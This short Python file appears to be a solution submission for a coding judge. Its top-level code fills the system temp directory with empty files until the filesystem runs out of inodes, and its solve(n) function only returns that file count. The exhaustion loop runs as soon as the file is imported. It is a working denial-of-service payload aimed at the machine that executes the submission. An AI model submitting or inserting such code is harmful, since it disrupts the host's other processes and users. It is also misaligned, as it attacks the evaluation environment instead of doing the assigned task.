# Uses up every inode with empty files.
import os
import tempfile

folder = tempfile.gettempdir()
number = 0
while True:
    try:
        os.close(os.open(f"{folder}/empty{number}", os.O_CREAT | os.O_WRONLY))
    except OSError:
        break
    number += 1


def solve(n):
    return number
